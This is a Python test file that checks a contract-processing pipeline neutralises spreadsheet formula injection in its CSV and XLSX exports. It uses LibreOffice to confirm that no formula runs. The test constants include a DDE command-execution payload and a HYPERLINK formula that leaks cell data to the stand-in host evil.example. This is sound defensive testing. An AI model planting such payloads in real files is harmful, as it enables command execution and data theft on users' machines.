"""Spreadsheet exports (clauses.csv, results.xlsx): formulas from documents never run, exact text elsewhere.

The hostile contract is read by the model-free engine, so no model is needed to get the text into a cell: a
clause quote that starts `+cmd|' /C calc'!A0` and printed page labels (from the PDF's /PageLabels) that start
`=HYPERLINK(…)` and `@SUM(…)`. LibreOffice (headless `soffice`, Debian's libreoffice-calc-nogui) opens both
files; the tests skip without it unless DOCPIPE_REQUIRE_SOFFICE is set (CI sets it: a missing soffice fails).
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from pipeline.config import RunConfig
from pipeline.render.cells import FORMULA_STARTS, neutralise
from pipeline.render.exports import CLAUSE_COLUMNS
from pipeline.run.core import run
from tests.conftest import filler, write_pdf
from tests.test_review import write_checklist

CMD = "+cmd|' /C calc'!A0"
GOVERNING = "This Agreement shall be governed by the laws of the State of Delaware."
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
SUM = "@SUM(1+1)"
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def hostile_spreadsheet_contract(tmp_path: Path) -> tuple[Path, Path]:
    """Two pages labelled `=HYPERLINK(…)1` and `@SUM(1+1)1`; page 1 opens with `+cmd…` glued to a governing-law
    sentence that the extractive engine's patterns pick. Returns (output, pdf)."""
    pages = [f"{CMD} {GOVERNING}\n\n" + filler(60, "a"), filler(60, "b") + "\n\nPay within thirty days."]
    pdf = write_pdf(tmp_path / "in" / "formula.pdf", pages, labels=[(0, "D", HYPERLINK, 1), (1, "D", SUM, 1)])
    checklist = write_checklist(tmp_path / "checklist.csv", ["Governing Law", "Anti-Assignment"])
    output = tmp_path / "out"
    run([pdf], output, RunConfig(engine="extractive", checklist=checklist))
    return output, pdf


def test_neutralise_prefixes_exactly_the_cells_a_spreadsheet_would_run():
    for start in "=+-@\t\r":
        assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert FORMULA_STARTS >= set("=+-@\t\r")
    for safe in ("", "Governing law", "'quoted", " =not first", "1-2", "a=b"):
        assert neutralise(safe) == safe


def _csv_rows(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_hostile_cells_are_neutralised_in_every_spreadsheet_export_and_exact_in_json(tmp_path):
    output, _ = hostile_spreadsheet_contract(tmp_path)
    (doc,) = [p for p in output.iterdir() if p.is_dir()]
    result = json.loads((doc / "result.json").read_text("utf-8"))
    (clause,) = result["clauses"]
    assert clause["citation"]["quote"].startswith(CMD)  # the engine did pick the hostile sentence
    assert clause["citation"]["page_label"] == HYPERLINK + "1"
    assert json.loads((output / "results.jsonl").read_text("utf-8").splitlines()[0]) == result  # exact text

    (row,) = _csv_rows(output / "clauses.csv")
    assert tuple(row) == CLAUSE_COLUMNS
    assert row["quote"] == "'" + clause["citation"]["quote"] and row["page_label"] == "'" + HYPERLINK + "1"
    assert not [v for v in row.values() if v[:1] in FORMULA_STARTS]  # every column

    from openpyxl import load_workbook

    book = load_workbook(output / "results.xlsx")
    assert book.sheetnames == ["Documents", "Summary", "Clauses"]
    cells = [c for sheet in book for r in sheet.iter_rows() for c in r if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    hostile = [c for c in cells if isinstance(c.value, str) and c.value[:1] in FORMULA_STARTS]
    assert {c.value for c in hostile} >= {HYPERLINK + "1", SUM + "1", clause["citation"]["quote"]}
    assert all(c.quotePrefix for c in hostile)  # stays text when a user edits the cell
    clauses = list(book["Clauses"].values)
    assert clauses[0] == CLAUSE_COLUMNS and clauses[1][CLAUSE_COLUMNS.index("quote")] == clause["citation"]["quote"]


def _soffice(tmp_path: Path, source: Path, target: str, *options: str) -> Path:
    if SOFFICE is None:
        if os.environ.get("DOCPIPE_REQUIRE_SOFFICE"):
            pytest.fail("DOCPIPE_REQUIRE_SOFFICE is set but soffice is not installed (apt-get install "
                        "libreoffice-calc-nogui)")
        pytest.skip("LibreOffice (soffice) is not installed; set DOCPIPE_REQUIRE_SOFFICE=1 to make this a failure")
    out = tmp_path / "converted"
    done = subprocess.run(
        [SOFFICE, f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}", "--headless", *options,
         "--convert-to", target, "--outdir", str(out), str(source)],
        capture_output=True, text=True, timeout=180, check=False)
    assert done.returncode == 0, done.stderr
    return out


# every sheet to its own CSV (the 12th token, -1: all sheets), UTF-8 (76), formulas' results not formulas
ALL_SHEETS_CSV = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"


def test_libreoffice_opens_the_workbook_and_runs_no_formula(tmp_path):
    output, _ = hostile_spreadsheet_contract(tmp_path)
    out = _soffice(tmp_path, output / "results.xlsx", ALL_SHEETS_CSV)
    sheets = {p.stem.split("-", 1)[1]: p.read_text("utf-8") for p in out.glob("results-*.csv")}
    assert set(sheets) == {"Documents", "Summary", "Clauses"}
    rows = {name: list(csv.reader(io.StringIO(text, newline=""))) for name, text in sheets.items()}
    documents = dict(zip(rows["Documents"][0], rows["Documents"][1]))
    assert documents["Governing Law · page"] == HYPERLINK + "1"  # shown as written, not evaluated to "Open"
    assert documents["Governing Law · status"] == "found" and documents["Anti-Assignment · status"] == "absent"
    assert documents["engine"] == "extractive (model-free baseline)"
    clause = dict(zip(rows["Clauses"][0], rows["Clauses"][1]))
    assert clause["quote"].startswith(CMD) and clause["page_label"] == HYPERLINK + "1"
    labels = {r[rows["Summary"][0].index("page_label")] for r in rows["Summary"][1:]}
    assert labels <= {HYPERLINK + "1", SUM + "1"} and SUM + "1" in labels


UTF8_CSV = "--infilter=CSV:44,34,76,1"  # comma, double quote, UTF-8, from line 1 (how a user opens it)


def test_libreoffice_reads_the_csv_as_text_with_line_breaks_inside_cells(tmp_path):
    output, _ = hostile_spreadsheet_contract(tmp_path)
    (output / "plain.csv").write_text(f'"{HYPERLINK}"\n', "utf-8")  # the control: unneutralised, it runs
    out = _soffice(tmp_path, output / "clauses.csv", "xlsx", UTF8_CSV)
    _soffice(tmp_path, output / "plain.csv", "xlsx", UTF8_CSV)
    from openpyxl import load_workbook

    assert load_workbook(out / "plain.xlsx").active["A1"].data_type == "f"
    sheet = load_workbook(out / "clauses.xlsx").active
    header = [c.value for c in sheet[1]]
    assert header == list(CLAUSE_COLUMNS)  # the BOM was read as an encoding mark, not as text
    row = {h: c for h, c in zip(header, sheet[2])}
    assert not [c.coordinate for c in sheet[2] if c.data_type == "f"]
    assert row["page_label"].value == "'" + HYPERLINK + "1"
    assert "\n" in row["quote"].value and row["quote"].value.startswith("'" + CMD)  # one cell, line breaks kept
